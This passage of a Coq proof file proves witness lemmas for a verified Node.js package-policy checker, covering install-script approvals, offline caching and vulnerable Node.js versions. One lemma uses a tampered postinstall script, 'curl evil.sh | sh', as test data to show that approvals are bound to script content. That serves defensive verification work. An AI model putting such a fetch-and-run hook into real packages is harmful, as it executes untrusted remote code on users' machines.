  - vm_compute in Hrun. discriminate Hrun.
Defined.

(** A run over [left-pad] with its registry record and its count in the
    cache, the network down. *)
Lemma fully_cached_run_witness :
  fetched
    (processRepo satisfies_example basename_posix getTime_example offlineEnv
       lib_index_ts unnamed_part_003 thresholdConfig leftPadDir leftPadWorld).2
  = [].
Proof.
  refine (proj1 (fully_cached_run_is_offline satisfies_example basename_posix
                   getTime_example offlineEnv lib_index_ts unnamed_part_003
                   thresholdConfig leftPadDir [leftPadDep] {[ "left-pad" := 3%Z ]}
                   leftPadWorld eq_refl _ eq_refl _ _)).
  - by vm_compute.
  - intros dep ->%list_elem_of_singleton. exists leftPadRecord.
    unfold servesVersion. split; [by vm_compute|]. split; [done|].
    eexists. by vm_compute.
  - intros dep ->%list_elem_of_singleton. exists 3%Z. split; [by vm_compute|discriminate].
Defined.

(** The run that finds the install script of [left-pad]. *)
Lemma warnings_provenance_witness :
  ∃ deps,
    readInstalledPackagesFromLockfile satisfies_example basename_posix lib_index_ts
      emptyConfig leftPadDir = Ok deps
    ∧ ∀ problem,
        problem ∈ r_warnings
          (reconcile [] (scriptProblems "left-pad@1.3.0"
                           [("postinstall", "node setup.js")])) →
        ∃ dep, dep ∈ deps ∧ raisedFor lib_index_ts emptyConfig dep problem.
Proof.
  assert (Hrun :
    collectAndReconcile satisfies_example basename_posix getTime_example offlineEnv
      lib_index_ts unnamed_part_003 emptyConfig leftPadDir leftPadWorld
    = (Ok (reconcile [] (scriptProblems "left-pad@1.3.0"
                           [("postinstall", "node setup.js")])),
       leftPadWorld)) by (by vm_compute).
  destruct (warnings_are_about_installed_packages satisfies_example basename_posix
              getTime_example offlineEnv lib_index_ts unnamed_part_003 emptyConfig
              leftPadDir leftPadWorld _ _ Hrun) as (deps & Hdeps & Hwarnings & _).
  by exists deps.
Defined.

(** The [postinstall] script of [left-pad], approved with one command and
    seen with another, against a record that also approves its
    [preinstall] script. *)
Lemma approval_content_witness :
  r_warnings
    (reconcile
       [ {| a_package := "left-pad@1.3.0"; a_type := script;
            a_cacheKey := "preinstall: node check.js" |};
         {| a_package := "left-pad@1.3.0"; a_type := script;
            a_cacheKey := "postinstall: node setup.js" |} ]
       [ {| w_package := "left-pad@1.3.0";
            w_message := "will run script";
            w_type := script;
            w_cacheKey := "postinstall: curl evil.sh | sh" |} ])
  ≠ [].
Proof.
  set (R := [ {| a_package := "left-pad@1.3.0"; a_type := script;
                 a_cacheKey := "preinstall: node check.js" |};
              {| a_package := "left-pad@1.3.0"; a_type := script;
                 a_cacheKey := "postinstall: node setup.js" |} ]).
  set (problem := {| w_package := "left-pad@1.3.0";
                     w_message := "will run script";
                     w_type := script;
                     w_cacheKey := "postinstall: curl evil.sh | sh" |}).
  assert (Habout : ∀ e, e ∈ R →
            a_package e = w_package problem ∧ a_type e = w_type problem).
  { by intros e [->|[->|[]%elem_of_nil]%elem_of_cons]%elem_of_cons. }
  intros Hnone.
  apply (proj1 (proj1 (approval_is_bound_to_content lib_index_ts R problem Habout)))
    in Hnone.
  destruct Hnone as (e & [->|[->|[]%elem_of_nil]%elem_of_cons]%elem_of_cons & Hkey);
    discriminate Hkey.
Defined.

(** An approval record of version [2]. *)
Lemma record_of_another_version_witness :
  ∃ reconciled,
    collectAndReconcile satisfies_example basename_posix getTime_example offlineEnv
      lib_index_ts unnamed_part_003 emptyConfig leftPadDir futureLockWorld
    = (Ok reconciled, futureLockWorld)
    ∧ r_cacheData reconciled ≡ₚ approvalOf <$> r_warnings reconciled.
Proof.
  eexists. split; [by vm_compute|].
  eapply (record_of_another_version_is_ignored satisfies_example basename_posix
            getTime_example offlineEnv lib_index_ts unnamed_part_003 emptyConfig
            leftPadDir futureLockWorld _ futureLockWorld).
  - simpl. discriminate.
  - by vm_compute.
Defined.

(** Node.js [18.0.0] is vulnerable and not patched. *)
Lemma vulnerable_node_witness :
  main satisfies_example intersects_example basename_posix getTime_example
    parseDuration_example (exampleOptions false "18.0.0") lib_index_ts unnamed_part_003
    lib_node_cve_ts ["/repo"] exampleHost
  = (Exit 2%Z, informedHost).
Proof.
  refine (proj1 (vulnerable_node_ends_the_process satisfies_example intersects_example
                   basename_posix getTime_example parseDuration_example
                   (exampleOptions false "18.0.0") lib_index_ts unnamed_part_003
                   lib_node_cve_ts ["/repo"] exampleHost [exampleAdvisory]
                   ltac:(discriminate) eq_refl eq_refl eq_refl) _).
  constructor; [|constructor]. split; by eexists.
Defined.

(** The directory [/bare] has no [package.json]. *)
Lemma directory_without_package_json_witness :
  ∃ err,
    checkRepo satisfies_example intersects_example basename_posix getTime_example
      parseDuration_example (exampleOptions false "18.0.1") lib_index_ts unnamed_part_003
      lib_node_cve_ts "/bare" exampleHost
    = (Throw err, exampleHost).
Proof.
  apply (directory_without_package_json_is_not_checked satisfies_example
           intersects_example basename_posix getTime_example parseDuration_example
           (exampleOptions false "18.0.1") lib_index_ts unnamed_part_003 lib_node_cve_ts
           "/bare" exampleHost eq_refl).
  left. by vm_compute.
Defined.

(** [--init] on [/repo]: the configuration is created, nothing is asked. *)
Lemma init_witness :
  let run :=
    main satisfies_example intersects_example basename_posix getTime_example
      parseDuration_example (exampleOptions true "18.0.1") lib_index_ts unnamed_part_003
      lib_node_cve_ts ["/repo"] exampleHost in
  run.1 = Ok tt
  ∧ asked run.2 = 0
  ∧ is_Some (rf_policyYml (filesOf run.2 "/repo")).
Proof.
  intros run.
  assert (Hok : run.1 = Ok tt) by (by vm_compute).
  destruct run as [r h'] eqn:Hrun. simpl in Hok.
  destruct (init_only_creates_missing_configuration satisfies_example intersects_example
              basename_posix getTime_example parseDuration_example
              (exampleOptions true "18.0.1") lib_index_ts unnamed_part_003 lib_node_cve_ts
              ["/repo"] exampleHost r h' eq_refl Hrun)
    as (Hasked & _ & _ & _ & _ & _ & _ & Hcreated).
  split; [exact Hok|]. split; [exact Hasked|].
  apply (Hcreated Hok "/repo"). left.
Defined.

(** A run over [/repo], whose [engines.node] is checked after the running
    Node.js. *)
Lemma advisory_index_witness :
  ∃ more,
    requests
      (main satisfies_example intersects_example basename_posix getTime_example
         parseDuration_example (exampleOptions false "18.0.1") lib_index_ts
         unnamed_part_003 lib_node_cve_ts ["/repo"] exampleHost).2
    = requests exampleHost ++ more
    ∧ advisoryRequests more ≤ 1.
Proof.
  destruct (main satisfies_example intersects_example basename_posix getTime_example
              parseDuration_example (exampleOptions false "18.0.1") lib_index_ts
              unnamed_part_003 lib_node_cve_ts ["/repo"] exampleHost) as [r h'] eqn:Hrun.
  destruct (advisory_index_is_requested_once satisfies_example intersects_example
              basename_posix getTime_example parseDuration_example
              (exampleOptions false "18.0.1") lib_index_ts unnamed_part_003
              lib_node_cve_ts ["/repo"] exampleHost r h' Hrun) as (more & Hreq & Hle & _).
  by exists more.
Defined.

(** [/repo] with the advisory index at hand. *)
Lemma engines_check_witness :
  checkRepo satisfies_example intersects_example basename_posix getTime_example
    parseDuration_example (exampleOptions false "18.0.1") lib_index_ts unnamed_part_003
    lib_node_cve_ts "/repo" informedHost
  = processRepoAt satisfies_example basename_posix getTime_example parseDuration_example
      (exampleOptions false "18.0.1") lib_index_ts unnamed_part_003 "/repo" informedHost.
Proof.
  apply (proj1 (engines_check_only_reports satisfies_example intersects_example
                  basename_posix getTime_example parseDuration_example
                  (exampleOptions false "18.0.1") lib_index_ts unnamed_part_003
                  lib_node_cve_ts "/repo" informedHost (Some "18.0.1") eq_refl
                  ltac:(by vm_compute)) [exampleAdvisory] eq_refl).
  intros node config [= <-] _ _ _.
  constructor; [|constructor]. split; by eexists.
Defined.

(** A run that throws: [package-policy.lock] is not YAML.  And the loop
    over [left-pad], with nothing in the cache and the network down,
    completes. *)
Lemma run_survives_the_network_witness :
  processRepo satisfies_example basename_posix getTime_example offlineEnv lib_index_ts
    unnamed_part_003 thresholdConfig leftPadDir unparsableLockWorld
  = (Throw "YAMLParseError", unparsableLockWorld)
  ∧ ∃ st' w1,
      checkAll getTime_example offlineEnv lib_index_ts unnamed_part_003 thresholdConfig
        [leftPadDep] emptyCollected emptyWorld
      = (Ok st', w1).
Proof.
  assert (Hthrows :
    processRepo satisfies_example basename_posix getTime_example offlineEnv lib_index_ts
      unnamed_part_003 thresholdConfig leftPadDir unparsableLockWorld
    = (Throw "YAMLParseError", unparsableLockWorld)) by (by vm_compute).
  split; [exact Hthrows|].
  apply (proj2 (run_survives_the_network satisfies_example basename_posix getTime_example
                  offlineEnv thresholdConfig leftPadDir unparsableLockWorld _ _ Hthrows)).
  by left.
Defined.

(** The run that stops on the vulnerable Node.js [18.0.0] ends with code
    [2]. *)
Lemma exit_codes_of_main_witness :
  (2 = 0 ∧ ["/repo"] = @nil string ∧ informedHost = exampleHost)%Z
  ∨ (2 = 2 ∧ ["/repo"] ≠ @nil string
     ∧ opt_checkNodeVersion (exampleOptions false "18.0.0") = true)%Z
  ∨ (2 = 1 ∧ ["/repo"] ≠ @nil string ∧ opt_init (exampleOptions false "18.0.0") = false
     ∧ (opt_ci (run_env (exampleOptions false "18.0.0")) = true
        ∨ ∃ n line,
            answer (run_env (exampleOptions false "18.0.0")) n = Some line
            ∧ line ≠ "" ∧ line ≠ "y"))%Z.
Proof.
  apply (exit_codes_of_main satisfies_example intersects_example basename_posix
           getTime_example parseDuration_example (exampleOptions false "18.0.0")
           lib_index_ts unnamed_part_003 lib_node_cve_ts ["/repo"] exampleHost 2%Z
           informedHost).
  by vm_compute.
Defined.
